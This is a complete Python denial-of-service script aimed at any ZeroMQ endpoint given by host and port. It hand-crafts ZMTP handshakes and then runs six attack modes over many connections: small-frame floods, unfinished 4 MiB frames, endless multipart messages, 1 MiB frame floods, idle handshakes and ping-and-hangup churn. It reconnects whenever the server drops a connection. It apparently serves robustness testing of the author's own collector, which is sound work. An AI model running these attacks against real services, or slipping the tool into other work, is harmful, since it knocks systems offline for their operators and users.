"""Attack a collector's port over raw TCP: python wire_attack.py KIND HOST PORT CONNECTIONS. Ends when stdin is closed.

KIND: flood   frames of two bytes, as fast as they are taken, and a new connection whenever one is closed
      half    one frame that says 4 MiB and never ends, once on each connection
      parts   parts of a message that never ends
      large   frames of 1 MiB, as fast as they are taken, and a new connection whenever one is closed
      silent  a handshake, and nothing after it
      pings   messages with ZeroMQ's heartbeats among them, and it hangs up at once, again and again
"""

import contextlib
import select
import socket
import sys

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
READY = b"\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER\x08Identity\x00\x00\x00\x00"
HANDSHAKE = GREETING + b"\x04" + bytes([len(READY)]) + READY
HALF_BYTES = 4 * 1024 * 1024

LARGE_BYTES = 1024 * 1024
PING = b"\x04\x07\x04PING\x00\x00"

PAYLOADS = {
    "flood": b"\x00\x02ab" * 16_384,
    "half": b"\x02" + (HALF_BYTES + 1).to_bytes(8, "big") + bytes(HALF_BYTES),
    "parts": b"\x01\x00" * 32_768,
    "large": b"\x02" + LARGE_BYTES.to_bytes(8, "big") + bytes(LARGE_BYTES),
    "silent": b"",
    "pings": (b"\x00\x02ab" + PING) * 256,
}
ENDLESS = {"flood", "parts", "large", "pings"}
HANGING_UP = {"pings"}


def connect(host: str, port: int) -> socket.socket:
    """Connect and go through the handshake. Who sends anything before its end is not let in."""
    connection = socket.create_connection((host, port))
    connection.sendall(HANDSHAKE)
    heard = b""
    while b"READY" not in heard:
        received = connection.recv(4096)
        if not received:
            raise ConnectionResetError("not let in")
        heard += received
    connection.setblocking(False)
    return connection


def check_open(connection: socket.socket) -> None:
    """Raise OSError where the other side has hung up: the kernel tells a sender whose buffer is full after a minute."""
    with contextlib.suppress(BlockingIOError):
        if not connection.recv(4096):
            raise ConnectionResetError("the other side has hung up")


def send(connection: socket.socket, left: bytes) -> bytes:
    """Send what is taken; return the rest."""
    with contextlib.suppress(BlockingIOError):
        return left[connection.send(left) :]
    return left


def main() -> None:
    """Attack until stdin is closed."""
    kind, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    payload = PAYLOADS[kind]
    left = {connect(host, port): payload for _ in range(count)}
    print("attacking", flush=True)
    missing = 0
    while True:
        for _ in range(missing):
            with contextlib.suppress(OSError):
                left[connect(host, port)] = payload
                missing -= 1
        wanting = [one for one, rest in left.items() if rest]
        readable, writable, _ = select.select(list(left), wanting, [], 0.05)
        if select.select([sys.stdin], [], [], 0)[0]:
            return
        for connection in {*readable, *writable}:
            try:
                check_open(connection)
                rest = send(connection, left[connection])
                if not rest and kind in HANGING_UP:
                    raise ConnectionResetError("this side hangs up")
                left[connection] = rest or (payload if kind in ENDLESS else b"")
            except OSError:
                del left[connection]
                connection.close()
                missing += 1


if __name__ == "__main__":
    main()
